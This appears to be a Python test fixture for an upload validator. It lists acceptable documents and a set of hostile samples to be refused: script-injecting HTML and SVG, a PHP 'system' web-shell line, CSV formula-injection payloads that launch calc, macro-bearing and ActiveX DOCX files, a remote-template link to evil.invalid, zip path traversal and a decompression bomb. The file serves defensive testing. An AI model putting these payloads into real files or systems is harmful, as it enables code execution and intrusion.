"""Files that somebody may upload as a document: sound ones, and what is none or may run."""

import io
import zipfile

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def packed(**parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx(**parts):
    return packed(**{"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"} | parts)


def odt(**parts):
    return packed(**{"mimetype": ODT_TYPE, "content.xml": "<o/>"} | parts)


def encrypted(content):
    """Return an archive whose parts say that they are encrypted."""
    own = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = own.find(mark)
        while start >= 0:
            own[start + place] |= 1
            start = own.find(mark, start + 4)
    return bytes(own)


SCRIPT = "<script>window.pwned=1</script>"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"

SOUND = {
    "verdict.pdf": PDF,
    "VERDICT.PDF": PDF,
    "letter.docx": docx(),
    "letter.odt": odt(),
    "notes.txt": "Вельмішаноўны спадар, 1 < 2 & 3 > 2".encode(),
    "notes-with-mark.txt": "\ufeffЗаметки".encode(),
    "prisoners.csv": "name,day,sum\nБяляцкі,2021-07-14,-5\nX,,+375 17 222\n".encode(),
    "semicolons.csv": b"name;days\nX;-5,5\n",
}

REFUSED = {
    "nothing.pdf": b"",
    "nothing.txt": b"",
    "page.html": SCRIPT.encode(),
    "page.htm": SCRIPT.encode(),
    "page.xhtml": SCRIPT.encode(),
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "script.js": b"window.pwned=1",
    "script.php": b"<?php system('id') ?>",
    "script.sh": b"#!/bin/sh\nid\n",
    "program.exe": b"MZ" + bytes(100),
    "program.pdf.exe": b"MZ" + bytes(100),
    "program.pdf": b"MZ" + bytes(100),
    "page.pdf": SCRIPT.encode(),
    "page-first.pdf": SCRIPT.encode() + PDF,
    "page.txt": f"Hello {SCRIPT}".encode(),
    "doctype.txt": b"<!DOCTYPE html><p>x",
    "drawing.txt": b"<svg onload=x>",
    "xml.txt": b"<?xml version='1.0'?><x/>",
    "shell.txt": b"#!/bin/sh\nid\n",
    "binary.txt": bytes(range(256)),
    "nul.txt": b"a\0b",
    "utf-16.txt": "Текст".encode("utf-16"),
    "cp1251.txt": "Тэкст ліста".encode("cp1251", "replace"),
    "formula.csv": b"name,sum\nX,=1+1\n",
    "command.csv": b"=cmd|' /C calc'!A0\n",
    "plus.csv": b"name\n+1+cmd|' /C calc'!A0\n",
    "minus.csv": b"name\n-2+3+cmd|' /C calc'!A0\n",
    "at.csv": b"name\n@SUM(1)\n",
    "quoted.csv": b'name\n"=1+1"\n',
    "blank-before.csv": b'name\n" =1+1"\n',
    "tab-before.csv": b'name\n"\t=1+1"\n',
    "semicolon.csv": b"name;sum\nX;=1+1\n",
    "page.csv": SCRIPT.encode(),
    "macros.docm": docx(**{"word/vbaProject.bin": b"x"}),
    "macros.docx": docx(**{"word/vbaProject.bin": b"x"}),
    "macros-elsewhere.docx": docx(**{"customXml/VBAPROJECT.BIN": b"x"}),
    "macro-named.docx": docx(
        **{"[Content_Types].xml": TYPES + "application/vnd.ms-word.document.macroEnabled.main+xml"}
    ),
    "template.docx": docx(
        **{
            "word/_rels/settings.xml.rels": '<Relationship Type="…/attachedTemplate" '
            'Target="https://evil.invalid/x.dotm" TargetMode="External"/>'
        }
    ),
    "object.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "control.docx": docx(**{"word/activeX/activeX1.xml": b"x"}),
    "program.docx": docx(**{"word/media/x.exe": b"MZ"}),
    "climbing.docx": docx(**{"../../evil": b"x"}),
    "encrypted.docx": encrypted(docx()),
    "archive.docx": packed(**{"a.txt": "x"}),
    "text.docx": b"Only text",
    "truncated.docx": docx()[:100],
    "bomb.docx": docx(**{"word/media/x.png": bytes(210 * 2**20)}),
    "many.docx": docx(**{f"word/media/{number}.png": b"" for number in range(2_100)}),
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "old.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "sheet.odt": odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
    "macros.odt": odt(**{"Basic/Standard/Module1.xml": "x"}),
    "scripts.odt": odt(**{"Scripts/python/x.py": "x"}),
    "letter-named.pdf": docx(),
    "pdf-named.docx": PDF,
    "picture.pdf": b"\x89PNG\r\n\x1a\n",
    "no-extension": PDF,
    "large.pdf": PDF + bytes(20 * 2**20),
}
